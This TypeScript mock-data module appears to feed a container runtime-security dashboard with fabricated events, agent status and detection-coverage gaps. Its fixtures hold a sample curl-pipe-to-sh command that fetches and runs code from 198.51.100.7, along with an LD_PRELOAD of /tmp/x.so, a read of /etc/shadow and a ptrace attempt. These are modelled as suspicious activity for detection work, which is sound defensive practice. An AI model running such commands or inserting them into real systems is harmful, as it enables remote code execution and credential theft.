import { type Answer, type activity, type agents, events } from '@breakwater/api';
import { type ListRequest, pageOf, type ReadField, valuesOf } from './rows.ts';
import { ago, CLUSTERS, DAY, HOUR } from './shop.ts';

type EventRow = Answer<typeof events.endpoints.get>;
type Event = EventRow['event'];

const [production] = CLUSTERS;
const SECOND = 1000;
const chain = [
  { id: 'p-sh', exe: '/bin/sh', argv: ['sh', '-c', 'curl -s http://198.51.100.7/x | sh'], uid: 0, name: 'sh' },
  { id: 'p-node', exe: '/usr/local/bin/node', argv: ['node', 'server.js'], uid: 0, name: 'node' },
];
const curl = {
  id: 'p-curl',
  parentId: 'p-sh',
  pid: 4711,
  exe: '/usr/bin/curl',
  argv: ['curl', '-s', 'http://198.51.100.7/x', 'a\nb\u202e'],
  argvTruncated: false,
  cwd: '/app',
  uid: 0,
  layer: 'upper' as const,
  sha256: 'c0ffee'.repeat(10).padEnd(64, '0'),
  traits: ['stdout-socket' as const],
  entry: 'init' as const,
  capabilities: ['CAP_NET_RAW'],
  environment: { LD_PRELOAD: '/tmp/x.so' },
  ancestors: chain,
  ancestorsTruncated: true,
};

/** What differs from event to event; the first one is opened in pictures. */
const KINDS: readonly Pick<Event, 'type' | 'connect' | 'dns' | 'file' | 'privilege'>[] = [
  {
    type: 'connect',
    connect: {
      protocol: 'tcp',
      local: { address: '10.1.0.7', port: 40_112 },
      remote: { address: '198.51.100.7', port: 80 },
      result: 'started',
    },
  },
  { type: 'process-exec' },
  { type: 'dns', dns: { query: 'pool.example.net', type: 'A', answers: ['198.51.100.7'], code: 'NOERROR' } },
  { type: 'file-open', file: { path: '/etc/shadow', operation: 'read', flags: ['O_RDONLY'] } },
  { type: 'privilege', privilege: { operation: 'ptrace', detail: { target: '1' }, result: 'EPERM' } },
];
const SUBJECTS = ['198.51.100.7:80/tcp', '/usr/bin/curl', 'pool.example.net', 'read /etc/shadow', 'ptrace'] as const;

/** One event so many seconds ago; the number names it. */
function buildEvent(index: number, seconds: number): EventRow {
  const kind = KINDS[index % KINDS.length] ?? { type: 'process-exec' as const };
  const subject = SUBJECTS[index % SUBJECTS.length] ?? '';
  const place = { node: 'node-1', namespace: 'shop', workload: 'Deployment/web', pod: 'web-5d4f8c-x', container: 'app' };
  const time = ago(seconds * SECOND);
  return {
    id: `e-${index}`,
    time,
    ...place,
    cluster: production.id,
    clusterName: production.name,
    type: kind.type,
    program: curl.exe,
    subject,
    text: `${kind.type} ${subject} ${index}`,
    event: {
      id: `node-1/b/${index}`,
      time,
      cluster: production.id,
      ...place,
      image: 'registry.example.com/shop/web:latest',
      process: curl,
      ...kind,
    },
  };
}

/** Those that a page shows at first; `tell` adds to them. */
const told: EventRow[] = [];
const OLD = 400;
const eventRows: readonly EventRow[] = Array.from({ length: OLD }, (_, index) => buildEvent(index, 60 + index));

/** Events that happened just now. */
export function tellEvents(count: number): void {
  for (let index = 0; index < count; index++) told.push(buildEvent(OLD + told.length, 50 - told.length / 10));
}

export function forgetToldEvents(): void {
  told.length = 0;
}

function listEvents(): readonly EventRow[] {
  return [...told, ...eventRows];
}

type ActivityRow = Answer<typeof activity.endpoints.list>['results'][number];

export const activityRows: readonly ActivityRow[] = Array.from({ length: 3 }, (_, day) =>
  [...SUBJECTS, ''].map((subject, index) => ({
    id: `a-${day}-${index}`,
    day: ago(day * DAY).slice(0, 10),
    cluster: production.id,
    clusterName: production.name,
    namespace: 'shop',
    workload: 'Deployment/web',
    container: 'app',
    type: KINDS[index % KINDS.length]?.type ?? ('process-exec' as const),
    subject,
    count: (index + 1) * (day + 3),
    firstSeen: ago(day * DAY + 2 * HOUR),
    lastSeen: ago(day * DAY + HOUR + index * SECOND),
  })),
).flat();

const status: Answer<typeof agents.endpoints.status> = {
  results: [
    {
      cluster: production.id,
      clusterName: production.name,
      node: 'node-1',
      version: '0.1.0',
      since: ago(DAY),
      heardAt: ago(5 * SECOND),
      silent: false,
      capabilities: [
        { name: 'process-exec' },
        { name: 'dns-answers', missing: 'the kernel has no cgroup/skb programs: it was built without CONFIG_CGROUP_BPF' },
        { name: 'deny-connect', missing: 'the capability NET_ADMIN is missing' },
      ],
      problems: [{ code: 'events-lost', source: 'kernel', message: '12 events of type file-open were lost: the buffer was full' }],
    },
    {
      cluster: production.id,
      clusterName: production.name,
      node: 'node-2',
      version: '0.1.0',
      since: ago(2 * DAY),
      heardAt: ago(HOUR),
      silent: true,
      capabilities: [{ name: 'process-exec' }],
      problems: [],
    },
  ],
  clusters: CLUSTERS.map(({ id, name }, index) => ({
    cluster: id,
    clusterName: name,
    nodes: index === 0 ? 3 : 0,
    watched: index === 0 ? 1 : 0,
    unwatched: index === 0 ? ['node-2', 'node-3'] : [],
  })),
};

const gaps: Answer<typeof agents.endpoints.gaps> = {
  gaps: [
    {
      reason: 'no-agent' as const,
      detail: '',
      nodes: ['node-2', 'node-3'],
      nodeCount: 2,
      policies: [{ id: 'fileless-program', title: 'Program executed without a file' }],
      policyCount: 104,
    },
    {
      reason: 'cannot' as const,
      capability: 'tcp',
      detail: 'the kernel has no BTF',
      nodes: ['node-1'],
      nodeCount: 1,
      policies: [{ id: 'port-scan', title: 'Port scan' }],
      policyCount: 1,
    },
    {
      reason: 'no-audit' as const,
      detail: '',
      nodes: [],
      nodeCount: 0,
      policies: [{ id: 'exec-into-pod', title: 'Exec into a pod' }],
      policyCount: 1,
    },
  ].map(gap => ({ cluster: production.id, clusterName: production.name, ...gap })),
};

/** Answers about what containers do. */
export function runtimeHandlers(read: ReadField<object>) {
  const page = ({ query }: { readonly query: ListRequest }) => pageOf(listEvents(), events.endpoints.list.list, read, query);
  return {
    'agents.status': () => status,
    'agents.gaps': () => gaps,
    'events.list': page,
    'events.export': ({ query }: { readonly query: ListRequest }) => {
      const found = page({ query });
      return 'problem' in found ? found : { ...found, results: found.results.map(({ event }) => event) };
    },
    'events.values': ({ query }: { readonly query: ListRequest }) => valuesOf(listEvents(), read, query as never),
    'events.get': ({ id }: { readonly id: string }) => listEvents().find(row => row.id === id),
  };
}
